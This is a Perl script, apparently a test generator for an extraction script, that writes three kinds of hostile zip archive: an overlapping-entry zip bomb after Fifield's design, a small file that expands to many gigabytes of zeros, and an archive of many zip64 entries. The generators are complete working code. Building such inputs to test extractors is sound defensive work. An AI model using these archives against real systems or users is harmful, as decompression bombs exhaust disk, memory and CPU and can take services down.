#!/usr/bin/perl
# make-zip.pl - writes the hostile zips of extract.sh, byte by byte, fast:
#
#   make-zip.pl overlap FILE N   N entries whose data overlap, all ending
#                                in one compressed kernel (David Fifield's
#                                "A better zip bomb", 2019, quoted overlap)
#   make-zip.pl expand FILE GIB  one entry of GIB GiB of zeros, in about
#                                GIB MB: one deflate block, repeated
#   make-zip.pl many FILE N      N empty entries, with zip64 end records
#
# Sizes and CRCs are right: each zip is well formed but for what it tests.
use strict;
use warnings;
use Compress::Raw::Zlib;

my $DATE = 0x21;    # 1980-01-01, the zip epoch

# local_header(NAME, CRC, CSIZE, USIZE, METHOD, EXTRA)
sub local_header {
	my ($name, $crc, $csize, $usize, $method, $extra) = @_;
	return pack('VvvvvvVVVvv', 0x04034b50, 45, 0, $method, 0, $DATE,
	    $crc, $csize, $usize, length $name, length $extra) . $name . $extra;
}

# central_header(NAME, CRC, CSIZE, USIZE, METHOD, OFFSET, EXTRA)
sub central_header {
	my ($name, $crc, $csize, $usize, $method, $offset, $extra) = @_;
	return pack('VvvvvvvVVVvvvvvVV', 0x02014b50, 45, 45, 0, $method, 0,
	    $DATE, $crc, $csize, $usize, length $name, length $extra, 0, 0, 0,
	    0, $offset) . $name . $extra;
}

# end_records(ENTRIES, CD-SIZE, CD-OFFSET, ZIP64): the zip64 end record
# and its locator, when asked, then the end of central directory record.
sub end_records {
	my ($n, $size, $offset, $zip64) = @_;
	my $end = '';

	if ($zip64) {
		$end = pack('VQ<vvVVQ<Q<Q<Q<', 0x06064b50, 44, 45, 45, 0, 0,
		    $n, $n, $size, $offset);
		$end .= pack('VVQ<V', 0x07064b50, 0, $offset + $size, 1);
		$n = 0xffff;
	}
	return $end . pack('VvvvvVVv', 0x06054b50, 0, 0, $n, $n, $size,
	    $offset, 0);
}

sub raw_deflate {
	my ($d, $st) = Compress::Raw::Zlib::Deflate->new(
	    -WindowBits => -MAX_WBITS, -Level => Z_BEST_COMPRESSION,
	    -AppendOutput => 1);
	die "deflate: $st\n" unless $d;
	return $d;
}

# Entry i's data is a stored deflate block quoting the local header of
# entry i + 1, then entry i + 1's data; the last entry's is the kernel.
# So every entry expands to the kernel, and the zip holds it once.
sub overlap {
	my ($file, $n) = @_;
	my $kernel_size = 1 << 20;
	my ($d, $kernel, $out) = (raw_deflate(), '', '');

	$d->deflate('a' x $kernel_size, $kernel) == Z_OK or die "deflate\n";
	$d->flush($kernel) == Z_OK or die "deflate\n";
	my $crc = crc32('a' x $kernel_size);
	my ($csize, $usize) = (length $kernel, $kernel_size);
	my @headers;
	for (my $i = $n - 1; $i >= 0; $i--) {
		my $name = sprintf('%04d', $i);
		my $lh = local_header($name, $crc, $csize, $usize, 8, '');
		unshift @headers, [ $name, $crc, $csize, $usize ];
		$out = $lh . $out;
		last if $i == 0;
		my $quote = pack('Cvv', 0, length $lh, 0xffff ^ length $lh);
		$out = $quote . $out;
		$crc = Compress::Raw::Zlib::crc32_combine(crc32($lh), $crc, $usize);
		$csize += length($quote) + length $lh;
		$usize += length $lh;
	}
	$out .= $kernel;
	my ($cd, $offset) = ('', 0);
	for my $h (@headers) {
		$cd .= central_header(@$h[0 .. 3], 8, $offset, '');
		$offset += 30 + length($h->[0]) + 5;
	}
	write_file($file, $out . $cd . end_records($n, length $cd,
	    length $out, 0));
}

# A full flush ends the block byte-aligned and forgets the window: the
# same input gives the same bytes again, so one block is written GIB * 1024
# times, then the final, empty one.
sub expand {
	my ($file, $gib) = @_;
	my ($d, $block, $last) = (raw_deflate(), '', '');
	my $mib = "\0" x (1 << 20);
	my $count = $gib * 1024;

	$d->deflate($mib, $block) == Z_OK or die "deflate\n";
	$d->flush($block, Z_FULL_FLUSH) == Z_OK or die "deflate\n";
	$d->flush($last) == Z_OK or die "deflate\n";
	my ($crc, $one) = (0, crc32($mib));
	$crc = Compress::Raw::Zlib::crc32_combine($crc, $one, 1 << 20) for 1 .. $count;
	my $usize = $count << 20;
	my $csize = $count * length($block) + length $last;
	my $name = 'zeros';
	my $x64 = pack('vvQ<Q<', 1, 16, $usize, $csize);
	open(my $fh, '>:raw', $file) or die "$file: $!\n";
	print $fh local_header($name, $crc, 0xffffffff, 0xffffffff, 8, $x64);
	print $fh $block for 1 .. $count;
	print $fh $last;
	my $cd = central_header($name, $crc, 0xffffffff, 0xffffffff, 8, 0,
	    $x64);
	my $offset = 30 + length($name) + length($x64) + $csize;
	print $fh $cd, end_records(1, length $cd, $offset, 0);
	close($fh) or die "$file: $!\n";
}

sub many {
	my ($file, $n) = @_;
	my ($out, $cd) = ('', '');

	for my $i (0 .. $n - 1) {
		my $name = sprintf('e%06d', $i);
		$cd .= central_header($name, 0, 0, 0, 0, length $out, '');
		$out .= local_header($name, 0, 0, 0, 0, '');
	}
	write_file($file, $out . $cd . end_records($n, length $cd,
	    length $out, 1));
}

sub write_file {
	my ($file, $bytes) = @_;
	open(my $fh, '>:raw', $file) or die "$file: $!\n";
	print $fh $bytes;
	close($fh) or die "$file: $!\n";
}

my %make = (overlap => \&overlap, expand => \&expand, many => \&many);
die "usage: make-zip.pl overlap|expand|many FILE N\n"
    unless @ARGV == 3 && $make{$ARGV[0]};
$make{$ARGV[0]}->($ARGV[1], $ARGV[2]);
